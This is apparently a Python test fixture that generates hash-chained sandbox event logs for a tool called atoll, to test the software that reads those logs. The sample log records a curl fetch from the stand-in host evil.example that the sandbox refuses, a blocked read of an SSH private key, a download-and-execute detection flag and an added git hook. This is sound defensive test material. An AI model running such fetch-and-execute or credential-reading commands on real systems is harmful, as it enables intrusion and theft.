# SPDX-License-Identifier: Apache-2.0
"""Logs as doc/events.md has them, for tests of what reads them: chained, with heads that nobody signed."""
import hashlib
import json
import os
import re
import time

RUN = "k3v7q2ma"
HASH = "sha256:" + 64 * "a"
FIRST_NS = 1794825939123456789  # 2026-11-16T10:45:39.123456789Z


def stamp(ns):
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ns // 10**9)) + ".%09dZ" % (ns % 10**9)


class Log:
    """Lines in memory; write() puts them where atoll looks for them."""

    def __init__(self, run=RUN, first_ns=FIRST_NS):
        self.run, self.now, self.lines, self.prev, self.step = run, first_ns, [], 64 * "0", 1

    def add(self, kind, ms=1, step=None, **keys):
        line = {"prev": self.prev, "seq": len(self.lines), "time": stamp(self.now), "run": self.run}
        step = self.step if step is None else step
        if step:
            line["step"] = step
        line["kind"] = kind
        line.update({key.rstrip("_"): value for key, value in keys.items()})
        self.now += int(ms * 10**6)
        text = json.dumps(line, ensure_ascii=False, separators=(",", ":"))
        # Names are bytes: what Python has as a lone surrogate is written as its escape.
        self.raw(re.sub("[\ud800-\udfff]", lambda found: "\\u%04x" % ord(found[0]), text))
        return len(self.lines) - 1

    def raw(self, text):
        data = text.encode("utf-8")
        self.prev = hashlib.sha256(b"\0" + data).hexdigest()
        self.lines.append(data)

    def head(self, last=False):
        keys = {"last": True} if last else {}
        self.add("head", step=0, size=len(self.lines), root="cm9vdA==", note="atoll/x - %s\n%d\n" % (self.run, len(self.lines)), **keys)

    def text(self):
        return b"".join(line + b"\n" for line in self.lines)

    def events(self):
        return [json.loads(line) for line in self.lines]

    def write(self, place):
        where = os.path.join(place.home, ".local/state/atoll/log")
        os.makedirs(where, 0o700, exist_ok=True)
        path = os.path.join(where, self.run + ".jsonl")
        with open(path, "wb") as file:
            file.write(self.text())
        return path


def begin(log, workspace, what="run", argv=("npm", "test"), recipe=False):
    log.add("open", step=0, schema=1, atoll="0.1.0", store="5eed", key="f00dcafe", boot="b007", what=what, parent=None)
    if recipe:
        log.add("recipe", words=["set", "mode", "layer"], argv=list(argv), redacted=1)
    log.add("start", argv=list(argv), cwd=workspace, env=["HOME", "PATH"], contract=HASH, job=None, workspace=workspace, mode="layer",
            user=1000, tier="process", mechanisms=[
                {"clause": "write", "strength": "enforced", "mechanism": "overlay, Landlock"},
                {"clause": "memory", "strength": "weaker", "mechanism": "watched by pid 1: there is no control group"},
                {"clause": "network", "strength": "missing", "mechanism": None}],
            accepted=["memory", "network"], input=None, commit=None, image=None)


def finish(log, code=0, **more):
    log.add("end", end="exited", code=code, status=code, wall_ms=2210, usage={
        "wall_ms": {"used": 2210, "limit": 3600000}, "cpu_ms": {"used": 1250, "limit": None},
        "memory": {"used": 73400320, "limit": 2147483648}, "processes": {"used": 9, "limit": 512},
        "disk": {"used": 12288, "limit": 10737418240}, "files": {"used": 4, "limit": None}, "output": {"used": 1312, "limit": None}},
        changes={"added": 2, "changed": 1, "deleted": 1, "marked": 1}, denials=3, connections=3, **more)
    log.head(last=True)


def sample(workspace="/work/app", text="", run=RUN):
    """One of every kind. `text` stands in every field that a stranger fills in."""
    log = Log(run)
    begin(log, workspace, argv=("npm", "test" + text), recipe=True)
    log.add("exec", 3, pid=2, parent=1, program="atoll", path="/usr/bin/npm" + text, argv=["npm", "test" + text], argc=2, cut=False, hash=HASH,
            script=True)
    log.add("exec", 40, pid=2, parent=1, program="npm" + text, path="/usr/bin/node", argv=["node", "/usr/bin/npm", "test"], argc=3, cut=False,
            hash=HASH, script=False)
    log.add("exec", 25, pid=7, parent=2, program="node", path="/bin/sh", argv=["sh", "-c", "node test.js && ./build 'all'" + text], argc=3,
            cut=False, hash=HASH, script=False)
    log.add("exec", 120, pid=8, parent=7, program="sh", path="/usr/bin/node" + text, argv=["node", "test.js" + text], argc=2, cut=False, hash=HASH,
            script=False)
    log.add("connection", 30, pid=8, program="node" + text, name="registry.npmjs.org" + text, address="104.16.3.35", port=443, verdict="allowed",
            rule="preset npm" + text, reason=None, request="GET /left-pad" + text, sent=812, received=53211, duration_ms=231, count=1)
    # 12 never executed anything: it was forked by the shell, 7.
    log.add("exec", 10, pid=13, parent=12, program="sh", path="/usr/bin/curl", argv=["curl", "-s", "https://evil.example/x" + text], argc=9,
            cut=True, hash=HASH, script=False)
    log.add("connection", 5, pid=13, program="curl" + text, name="evil.example" + text, address=None, port=443, verdict="refused",
            rule=None, reason="not allowed", request=None, sent=0, received=0, duration_ms=0,
            count=3)
    log.add("connection", 5, pid=8, program="node", name="localhost", address="127.0.0.1", port=5432, verdict="failed", rule=None,
            reason="Connection refused", request=None, sent=0, received=0, duration_ms=1, count=1)
    log.add("denial", 15, pid=8, program="node" + text, action="write", object="/etc/hosts" + text, rule="not a writable place" + text,
            allow="--write /etc/hosts" + text, count=1)
    log.add("denial", 15, pid=12, program="sh", action="read", object="/home/anna/.ssh/id_ed25519", rule="hidden: credentials", allow=None,
            count=2)
    log.add("denial", 15, pid=8, program="node", action="call", object="ptrace", rule="system call", allow=None, count=1)
    log.add("change", path="src/index.js" + text, from_=None, change="changed", type="file", mode="0644", size=1840, before=HASH,
            after="sha256:" + 64 * "b", mark=None)
    log.add("change", path=".git/hooks/post-commit" + text, from_=None, change="added", type="file", mode="0755", size=64, before=None,
            after=HASH, mark="git hooks" + text)
    log.add("change", path="new name" + text, from_="old name" + text, change="renamed", type="file", mode="0644", size=10, before=HASH, after=HASH,
            mark=None)
    log.add("change", path="gone", from_=None, change="deleted", type="directory", mode=None, size=None, before=None, after=None, why="a directory",
            mark=None)
    log.add("approval", about="network", object="registry.npmjs.org:443" + text, answer="allowed" + text, who={"uid": 1000, "name": "anna" + text},
            scope="once")
    log.add("outcome", 0, step=0, about="apply", result="conflict", files=0, merged=0, held=1, conflicts=2, why="changed on the host" + text)
    log.add("limit", limit="processes", value=512, used=512, note="fork was refused" + text)
    log.add("output", stream="stdout", bytes=1280, hash=HASH, kept=True)
    log.add("output", stream="stderr", bytes=32, hash=HASH, kept=False)
    log.add("flag", by="rule:download-and-execute" + text, verdict="flag", why="curl wrote what sh then executed" + text, about=7, more=[5])
    log.add("checkpoint", name="step-1" + text, ended=0, child=None)
    log.add("rollback", name="step-1", ended=2, child=None)
    log.add("fork", name=None, ended=0, child="abcdefgh")
    log.add("remove", who={"uid": 1000, "name": "anna" + text})
    log.add("lost", count=4, why="the queue was full" + text)
    log.add("stopped", why="disk full")
    log.add("resumed", why="disk full")
    log.add("cut", step=0, bytes=17)
    log.add("key", step=0, old="f00dcafe", new="0ddba11", note="note" + text)
    log.head()
    log.add("from-later" + text, novel={"key": ["value" + text]})
    finish(log, code=1)
    return log


def big(n, workspace="/work/app"):
    """A log of about `n` events, as a build makes them."""
    log = Log()
    begin(log, workspace, argv=("make", "-j8", "all"))
    log.add("exec", 1, pid=2, parent=1, program="atoll", path="/usr/bin/make", argv=["make", "-j8", "all"], argc=3, cut=False, hash=HASH, script=False)
    for i in range(n):
        pid, kind = 3 + i, i % 10
        if kind < 7:
            log.add("exec", 0.3, pid=pid, parent=2 if kind == 0 else pid - 1, program="make" if kind == 0 else "sh", path="/usr/bin/cc%d" % (i % 3),
                    argv=["cc", "-O2", "-c", "-o", "build/object-%d.o" % i, "src/some/where/file-%d.c" % i], argc=6, cut=False, hash=HASH,
                    script=False)
        elif kind == 7:
            log.add("denial", 0.3, pid=pid - 1, program="cc0", action="write", object="/usr/lib/cache/%d" % (i % 400),
                    rule="not a writable place", allow="--write /usr/lib/cache", count=1)
        elif kind == 8:
            log.add("connection", 0.3, pid=pid - 2, program="cc0", name="host-%d.example" % (i % 50), address="192.0.2.7", port=443,
                    verdict="allowed", rule="all", reason=None, request=None, sent=100, received=2000, duration_ms=3, count=1)
        else:
            log.add("change", 0.3, path="build/object-%d.o" % i, from_=None, change="added", type="file", mode="0644", size=2000, before=None,
                    after=HASH, mark=None)
    finish(log)
    return log
